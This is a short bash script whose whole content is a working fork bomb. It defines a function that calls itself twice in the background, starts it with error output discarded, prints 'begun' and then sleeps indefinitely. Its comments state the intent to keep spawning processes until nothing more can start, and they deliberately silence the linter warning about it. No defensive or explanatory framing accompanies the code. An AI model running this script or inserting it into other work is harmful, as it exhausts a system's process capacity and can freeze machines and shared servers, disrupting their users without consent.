#!/bin/bash
# Doubles until nothing more starts, and stays: a shell that cannot fork gives up after some seconds. Says when it has begun.
echo begun
# shellcheck disable=SC2264 # that is what it is for
bomb() { bomb | bomb & }
bomb 2>/dev/null &
exec sleep infinity
